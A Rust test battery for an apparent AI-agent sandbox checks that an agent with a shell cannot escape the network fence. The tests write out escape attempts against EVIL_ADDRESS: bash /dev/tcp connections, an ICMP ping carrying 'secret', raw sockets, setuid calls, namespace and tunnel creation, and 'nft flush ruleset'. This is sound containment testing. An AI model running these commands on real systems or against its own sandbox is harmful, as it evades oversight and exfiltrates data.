//! The battery, the network layer (L): an agent with a shell and no proxy variable, its own packets, its own privileges.
//! Clauses: N1, N3, N5, N6, N9, B3, B4, W5, W9.

use anyhow::Result;
use harness::escape::Turn;
use harness::escape::judge::Evidence;
use harness::escape::row::{Row, tcp, udp};
use harness::order::EVIL_ADDRESS;
use harness::project::{Decided, Project};
use harness::world::As;
use harness::{cases, open_cases, product_cases};

/// A stream round the proxy: captured, judged, never dialled.
fn stream(address: &str, port: u16) -> Row {
    tcp(address, port, "SSH-2.0-x\r\n").refused(address, port, "ip-literal")
}

/// A datagram round the proxy: refused by the rules, and on record.
fn datagram(address: &str, port: u16) -> Row {
    udp(address, port, b"x").dropped("udp", address, port)
}

cases! {
    l01_a_stream_to_any_ipv4_address_is_judged_and_not_dialled: [
        stream(EVIL_ADDRESS, 443), stream(EVIL_ADDRESS, 80), stream("203.0.113.9", 4444), stream("11.22.33.10", 22),
    ];
    l02_a_stream_to_any_ipv6_address_is_judged_and_not_dialled: [
        stream("2a0f:ffff:11::66", 443), stream("2a0f:ffff:77::2", 5432), stream("fd00::1", 80),
    ];
    l04_no_datagram_leaves: [
        datagram(EVIL_ADDRESS, 443), datagram(EVIL_ADDRESS, 123), datagram(EVIL_ADDRESS, 3478), datagram(EVIL_ADDRESS, 514),
        datagram("2a0f:ffff:11::66", 123),
    ];
    l21_no_port_of_the_host_answers_but_those_listed: [22, 80, 443, 631, 2375, 3128, 5432, 6443, 8080, 9999, 10250]
        .map(|port| tcp(harness::inside::HOST_V4, port, "x\r\n\r\n").refused(harness::inside::HOST_V4, port, "ip-literal"));
}

/// Runs Python in the box; it prints what it managed to do, so nothing is to be printed.
fn nothing_works(turn: &Turn<'_>, who: As, script: &str) -> Result<Evidence> {
    let project = turn.project(who)?;
    let evidence = turn.inside(&project, &["timeout", "30", "python3", "-c", script])?;
    anyhow::ensure!(
        evidence.client.status.success(),
        "the attack was not made: {evidence}"
    );
    anyhow::ensure!(evidence.client.stdout.is_empty(), "worked: {evidence}");
    evidence.nothing_left(&[])?;
    Ok(evidence)
}

product_cases! {
    needs "a network of its own"
    fn l02_the_link_s_own_addresses_lead_nowhere(turn, who) {
        let project = turn.project(who)?;
        let line = "for p in 22 3128 5432 9999; do curl -gsS -m 4 --noproxy '*' \"http://[fe80::1%25lo]:$p/\"; done; true";
        let evidence = turn.inside(&project, &["sh", "-c", line])?;
        evidence.nothing_left(&[])?;
        assert!(!evidence.client.stdout.contains("hello"), "{evidence}");
    }

    needs "a network of its own"
    fn l05_no_echo_leaves_in_either_family_whatever_it_carries(turn, who) {
        let project = turn.project(who)?;
        for (address, protocol) in [(EVIL_ADDRESS, "icmp"), ("2a0f:ffff:11::66", "icmpv6")] {
            let line = format!("ping -n -c 1 -W 4 -p 736563726574 {address} >/dev/null");
            let evidence = turn.inside(&project, &["sh", "-c", &line])?;
            assert_ne!(evidence.client.code(), 0, "{evidence}");
            evidence.nothing_left(&[])?;
            assert_eq!(evidence.decided()?, [Decided::packet(protocol, address, 0)], "{evidence}");
        }
    }

    needs "a box"
    fn l08_no_packet_is_injected_below_the_rules(turn, who) {
        nothing_works(&turn, who, "import socket\n\
            for t in (socket.SOCK_RAW, socket.SOCK_DGRAM):\n  \
            try:\n    s = socket.socket(socket.AF_PACKET, t, socket.htons(3)); s.bind(('lo', 0)); print('a packet socket', t)\n  \
            except OSError: pass")?;
    }

    needs "a box"
    fn l09_the_loopback_is_not_listened_to(turn, who) {
        nothing_works(&turn, who, "import socket\n\
            for f, t, p in ((17, 3, 3), (17, 2, 3), (2, 3, 6), (10, 3, 6), (2, 3, 255), (16, 3, 12)):\n  \
            try: socket.socket(f, t, p); print('a socket', f, t, p)\n  \
            except OSError: pass")?;
    }

    needs "a box"
    fn l10_a_mark_opens_nothing(turn, who) {
        nothing_works(&turn, who, &format!("import socket\n\
            for mark in (1, 0x2000, 0x7fffffff):\n  \
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n  \
            try: s.setsockopt(socket.SOL_SOCKET, 36, mark); print('marked')\n  \
            except OSError: pass\n  \
            try: s.connect(('{EVIL_ADDRESS}', 53)); s.connect(('{EVIL_ADDRESS}', 443)); s.send(b'x'); s.settimeout(2); s.recv(1); print('sent')\n  \
            except OSError: pass"))?;
    }

    needs "a box"
    fn l11_no_other_uid_is_taken(turn, who) {
        nothing_works(&turn, who, "import os\n\
            for uid in (0, 1, 13, 101, 4100, 65534):\n  \
            for call in (os.setuid, os.setgid, lambda u: os.setresuid(u, u, u), lambda u: os.setgroups([u])):\n    \
            try:\n      before = (os.getresuid(), os.getgroups()); call(uid)\n      \
            if (os.getresuid(), os.getgroups()) != before: print('became', uid)\n    \
            except OSError: pass")?;
    }

    needs "a box"
    fn l13_no_namespace_interface_or_tunnel_is_made(turn, who) {
        nothing_works(&turn, who, "import os, subprocess\n\
            for c in ('unshare -n true', 'unshare -rn true', 'unshare -Ur true', 'ip link add d0 type dummy', 'ip link add v0 type veth', \
            'ip link add link lo m0 type macvlan', 'ip tuntap add t0 mode tun', 'ip link set lo down', 'ip addr add 11.22.33.44/24 dev lo'):\n  \
            if subprocess.run(c.split(), capture_output=True).returncode == 0: print(c)\n\
            try: os.open('/dev/net/tun', os.O_RDWR); print('tun')\n\
            except OSError: pass")?;
    }

    needs "a box"
    fn l14_no_rule_route_or_setting_is_changed(turn, who) {
        nothing_works(&turn, who, "import subprocess\n\
            for c in ('nft flush ruleset', 'nft list ruleset', 'nft add table inet x', 'iptables -F', 'ip rule add from all lookup 1', \
            'ip route add 11.0.0.0/8 dev lo', 'ip route flush table local', 'tc qdisc add dev lo root netem', \
            'sysctl -w net.ipv4.ip_forward=1', 'sysctl -w net.ipv4.ping_group_range=0'):\n  \
            if subprocess.run(c.split(), capture_output=True).returncode == 0: print(c)")?;
    }

    needs "a box"
    fn l14_the_fence_holds_though_somebody_else_flushed_its_rules(turn, who) {
        let project = turn.project(who)?;
        let agent = "touch ready; until [ -e go ]; do sleep 0.05; done; \
                     python3 attack.py tcp 11.22.33.66 443 6869; python3 attack.py udp 11.22.33.66 443 6869; \
                     python3 attack.py raw 434f4e4e454354206576696c2e746573743a34343320485454502f312e310d0a486f73743a206576696c2e746573743a3434330d0a0d0a";
        drop(std::fs::remove_file(turn.world.outside(&project.directory().join("ready"))));
        drop(std::fs::remove_file(turn.world.outside(&project.directory().join("go"))));
        let running = project.start(&["sh", "-c", agent])?;
        let ready = turn.world.outside(&project.directory().join("ready"));
        turn.world.settle(|_| ready.exists())?;
        let holder = turn.world.find(|process| process.name == "ocs-netctl")?;
        let flush = format!("nsenter --target {} --net nft flush ruleset", holder.pid);
        turn.world.run(As::Root, harness::world::Call::new(&["sh", "-c", &flush]))?.succeeded()?;
        project.write("go", "")?;
        let finished = running.wait()?;
        let readings = turn.world.readings()?;
        assert_eq!(readings, harness::spec::Readings::default(), "{finished}");
        assert_eq!(finished.stdout.lines().count(), 3, "{finished}");
        assert!(!finished.stdout.contains("hello"), "{finished}");
    }

    needs "a policy that changes while it serves"
    fn l15_an_open_flow_ends_when_the_policy_refuses_it(turn, who) {
        let config = "sandbox-name: flows\nhttp-domain-whitelist:\n  - ok.test\nhost-ports:\n  - 5432\n";
        let project = Project::named(turn.world, who, "flows", config)?;
        let script = "import socket\ns=socket.create_connection(('docker.host',5432),20)\ns.sendall(b'hi')\nprint(s.recv(2),flush=True)\n\
                      try:\n  while s.recv(10): pass\nexcept ConnectionResetError: pass\nexcept TimeoutError: raise SystemExit('left open')\nprint('cut')";
        let mut running = project.start(&["python3", "-c", script])?;
        running.until(|written| written.contains("hi"))?;
        let path = turn.world.outside(&project.directory().join("opencode-sandbox-config.yaml"));
        std::fs::write(path, "sandbox-name: flows\nhttp-domain-whitelist:\n  - ok.test\n")?;
        let finished = running.wait()?;
        assert!(finished.stdout.ends_with("cut\n"), "{finished}");
    }

    needs "a bring-up"
    fn l16_an_agent_s_first_instruction_meets_the_rules(turn, who) {
        let project = turn.project(who)?;
        for _ in 0..5 {
            let evidence = turn.inside(&project, &["bash", "-c", &format!("(exec 3<>/dev/tcp/{EVIL_ADDRESS}/443 && echo GET >&3); echo x >/dev/udp/{EVIL_ADDRESS}/443; true")])?;
            evidence.nothing_left(&[])?;
        }
    }

    needs "a box"
    fn l18_no_fragment_and_no_header_of_its_own_leaves(turn, who) {
        nothing_works(&turn, who, &format!("import socket\n\
            for f in (socket.AF_INET, socket.AF_INET6):\n  \
            try: socket.socket(f, socket.SOCK_RAW, 255); print('raw')\n  \
            except OSError: pass\n\
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
            for size in (1400, 9000, 60000):\n  \
            try: s.sendto(b'x' * size, ('{EVIL_ADDRESS}', 443))\n  \
            except OSError: pass"))?;
    }

    needs "a network of its own"
    fn l19_options_and_lifetimes_change_no_verdict(turn, who) {
        nothing_works(&turn, who, &format!("import socket, struct\n\
            for level, name, value in ((0, 4, bytes((131, 7, 4, 11, 22, 33, 66, 0))), (0, 2, struct.pack('i', 1)), (0, 19, struct.pack('i', 1))):\n  \
            s = socket.socket(); s.settimeout(4)\n  \
            try: s.setsockopt(level, name, value)\n  \
            except OSError: continue\n  \
            try:\n    s.connect(('{EVIL_ADDRESS}', 80)); s.sendall(b'GET / HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n')\n    \
            if b'hello' in s.recv(999): print('answered', level, name)\n  \
            except OSError: pass"))?;
    }

    needs "a box"
    fn l23_no_virtual_machine_s_host_is_called(turn, who) {
        nothing_works(&turn, who, "import socket\n\
            for cid in (0, 1, 2):\n  \
            try: socket.socket(40, socket.SOCK_STREAM).connect((cid, 1024)); print('called', cid)\n  \
            except PermissionError: pass\n  \
            except OSError as e:\n    \
            if e.errno != 97: print('a vsock socket:', e)")?;
    }

    needs "a box"
    fn l24_no_socket_of_the_host_is_in_the_box(turn, who) {
        nothing_works(&turn, who, "import os, stat\n\
            for top, dirs, files in os.walk('/'):\n  \
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys')]\n  \
            for f in files:\n    \
            p = os.path.join(top, f)\n    \
            try:\n      \
            if stat.S_ISSOCK(os.lstat(p).st_mode): print(p)\n    \
            except OSError: pass")?;
    }

    needs "a network of its own"
    fn l25_no_abstract_socket_is_in_the_namespace(turn, who) {
        nothing_works(&turn, who, "print(''.join(l for l in open('/proc/net/unix').readlines()[1:] if len(l.split()) > 7), end='')")?;
    }

    needs "a network of its own"
    fn l27_nobody_outside_reaches_what_the_agent_listens_on(turn, who) {
        let project = turn.project(who)?;
        let agent = "rm -f listening; python3 -c \"import socket,os\ns=socket.socket(); s.bind(('0.0.0.0', 7777)); s.listen(); open('listening','w'); \
                     s.settimeout(4)\ntry: s.accept(); print('reached')\nexcept TimeoutError: print('nobody')\"";
        drop(std::fs::remove_file(turn.world.outside(&project.directory().join("listening"))));
        let running = project.start(&["sh", "-c", agent])?;
        let listening = turn.world.outside(&project.directory().join("listening"));
        turn.world.settle(|_| listening.exists())?;
        for address in ["127.0.0.1", harness::inside::HOST_V4] {
            let tried = turn.world.run(who, harness::world::Call::new(&["nc", "-z", "-w", "1", address, "7777"]))?;
            assert_ne!(tried.code(), 0, "{tried}");
        }
        assert_eq!(running.wait()?.stdout, "nobody\n");
    }

    needs "capture: what goes round the proxy"
    fn l29_an_address_chosen_by_the_client_is_never_dialled(turn, who) {
        let project = turn.project(who)?;
        let place = format!("ok.test:443:{EVIL_ADDRESS}");
        let line = ["env", "-i", "PATH=/usr/bin:/bin", "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt", "curl", "-sS", "--resolve", &place, "https://ok.test/"];
        let evidence = turn.inside(&project, &line)?;
        assert_eq!(evidence.client.stdout, "hello from ok.test\n", "{evidence}");
        evidence.reached_only("ok.test")?;
        assert_eq!(evidence.requests()?, [Decided::request("ok.test", 443, "allow")]);
    }

    needs "a network of its own"
    fn l30_the_agent_s_own_loopback_services_work(turn, who) {
        let project = turn.project(who)?;
        let line = "cd /tmp; echo own >own; python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 & \
                    for i in $(seq 100); do curl -sf http://127.0.0.1:8000/own && break; sleep 0.1; done";
        let evidence = turn.inside(&project, &["sh", "-c", line])?;
        assert_eq!(evidence.client.stdout, "own\n", "{evidence}");
        assert_eq!(evidence.decided()?, []);
    }
}

open_cases! {
    l22_a_neighbour_on_the_bridge_is_not_reached: "a case of the container engines: engine native has no bridge and no neighbour";
}
